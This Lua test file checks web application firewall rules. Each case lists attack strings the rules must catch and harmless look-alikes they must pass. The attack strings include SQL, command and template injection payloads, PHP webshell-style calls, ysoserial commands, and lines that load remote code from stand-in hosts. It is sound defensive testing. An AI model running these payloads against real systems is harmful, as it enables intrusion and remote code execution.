local rule_checks = require "rule_checks"

-- The hundred-and-sixty-seventh round (tests/edge_security/family_gen_blind_*.py of this round and the
-- open items of the last): the families found uncovered and the text beside them, value by value.
describe("edge.waf.rules hundred-and-sixty-seventh round on", function()
    local caught_by, clean

    setup(function()
        caught_by, clean = rule_checks.new(assert)
    end)

    it("Ruby Marshal in base64 starts a value or follows a delimiter; inside a base64url token or after a"
        .. " JWT's dot it is chance (one random session token in about 140,000)", function()
        caught_by(132170, { "BAhvOhVHZW06Okluc3RhbGxlcgA", "_app_session=BAhvOkBBY3RpdmVTdXBwb3J0",
            "'BAhbBm86FUdlbTo6UmVxdWlyZW1lbnQ" })
        clean({ "Qz8-bAhdT0pLm2Vx9Kw4Rn7Yc1Hs", "k_BaHlq8Zr2Ny6Wp0Ut4Mi9Fe3Dj",
            "eyJ1IjoxfQ.bAh1x7Rk2Lm9Qw4Zp6Tn3Vc0" })
    end)

    it("SQL: a transaction statement stacked after another; a closed string cast the PostgreSQL way", function()
        caught_by(142170, { "x';COMMIT;BEGIN;--", "1'; rollback; start transaction;", "';begin;--" })
        caught_by(142220, { "x'::int", "abc'::regclass)--", "7'::jsonb;" })
        clean({ "I'll commit; then begin the review", "it's::int in Postgres", "x::int", "commit early; commit often" })
    end)

    it("Node.js: a closed string, a semicolon, then returning the process, a module or the document", function()
        caught_by(135130, { "weather '; return this.is_admin == true; var d='", "x'; return process.env" })
        clean({ "ok'; return this to me", "signed 'OK'; return the form by Friday" })
    end)

    it("templates: Liquid's assign doing arithmetic, any object dumped by inspect, a breakout from the"
        .. " expression the template opened ('}}{{' then code left for the template to close)", function()
        caught_by(134110, { "{% assign x = 7 | times: 7 %}{{x}}", "{%- assign n = 3 | plus: 4 -%}" })
        caught_by(134100, { "{{ page | inspect }}", "{{ product.variants | inspect }}", "user.name}}{{7*7",
            "x}}{{ config.items()" })
        clean({ "{% assign title = page.title %}", "{{ page.title | upcase }}", "see }}{{ x }} docs",
            "write {{ var }} and }}{{ then" })
    end)

    it("Ruby: a method name sent as pieces ('sys' + 'tem')", function()
        caught_by(132170, { "send(:sys.to_s+'tem','id')", "obj.public_send(:ev.to_s + 'al', code)" })
        clean({ "send(:notify, user)", "to_s + 'x'" })
    end)

    it("PHP: an upload named with '.php' doubled into itself, for a filter that strips it once", function()
        caught_by(133140, { "shell.pphphp", "up/x.phphpp", "a.phpphp" })
        clean({ "php.php notes", "my.pphp", "see pphphp" })
    end)

    it("code: process members by bracket, a Groovy class loader, a Razor loop over System internals, a PHP"
        .. " variable variable's element called, Perl's eval of packed hex, a file's NTFS data stream", function()
        caught_by(135130, { "process['kill'](process.pid,'SIGKILL')", 'process["binding"]("spawn_sync")' })
        caught_by(144150, { "new GroovyClassLoader().parseClass(new URL('http://x/a.groovy').text)" })
        caught_by(134150, { "@foreach(var e in System.Environment.GetEnvironmentVariables().Keys){@e}" })
        caught_by(133180, { "$x='_GET';${$x}['f'](${$x}['c']);" })
        caught_by(132170, { "eval pack('H*','73797374656d28276964272927')", 'eval(pack("H*", $p))' })
        caught_by(130120, { "settings.ini::$DATA", "app/db.sqlite::$INDEX_ALLOCATION" })
        clean({ "new GroovyClassLoader is slow", "process['env']", "@foreach (var item in Model.Items)",
            "${name}['x'] docs", "pack('H*', $hex)", "the ::$DATA trick is old" })
    end)

    it("commands: a command's path spelled with '/./' or doubled slashes", function()
        caught_by(132105, { "127.0.0.1;/usr/./bin/./id", "x;/usr//bin//id", "| /./bin/./cat /etc/hosts" })
        clean({ "see https://docs.example//guide/./intro", "a//b and c/./d" })
    end)

    it("Java: ysoserial run (its jar, its classes, a gadget after its name); its name alone is prose", function()
        caught_by(144100, { "java -jar ysoserial-all.jar CommonsBeanutils1 id", "ysoserial.payloads.URLDNS",
            'ysoserial CommonsCollections5 "id"' })
        clean({ "https://github.com/frohoff/ysoserial", "PHPGGC and ysoserial: pentest image only", "ysoserial",
            "ysoserial.net is the .NET port" })
    end)

    it("SQL: a scanner's syntax-breaking tail of quotes, parentheses, commas and dots after a short value", function()
        caught_by(142280, { "1,'.)(\".((", "1)(\"'.,.((", "abc'..)(,\"" })
        clean({ "he said \"ok\" (...)", "(((", "1.2.3", "...)))", "(see p. 4).)" })
    end)

    it("templates: Velocity reaching the servlet through $request or $session; Razor's System.Threading", function()
        caught_by(134150, { "$request.getSession().getServletContext()", '$session.getAttribute("user")',
            "@System.Threading.Thread.Sleep(5000)" })
        clean({ "request.getSession() in Java", "the $request object", "System.Threading docs" })
    end)

    it("SQL: a login's name closed and commented out, one word after in any language", function()
        caught_by(142280, { "admin'-- senha", "root\"-- masuk", "bob') -- pass" })
        clean({ "it's-- fine", "O'Brien -- team lead", "see 'foo' -- bar" })
    end)

    it("PHP: a variable set to a command function's name and called (any script's name); .php before .7z", function()
        caught_by(133180, { "$函数='system';$函数('id');", "$f = \"exec\"; $f($_GET[1])" })
        caught_by(133140, { "1.php.7z", "up/shell.php.7z" })
        clean({ "$mode = 'system';", "$theme='system'; $x(1)", "backup.7z" })
    end)

    it("Java: Spring's XML application context under any package prefix (WebLogic repackages it)", function()
        caught_by(144200, { 'com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext('
            .. '"http://203.0.113.77/poc.xml")' })
        clean({ "FileSystemXmlApplicationContext is deprecated in our codebase" })
    end)

    it("Node.js: a catastrophic regex whose group holds only a quantified group", function()
        caught_by(135120, { "((ab)*)+c", "((?:x)+)*$" })
        clean({ "((a)(b))", "((see note 2))", "(f(x))+1" })
    end)
end)
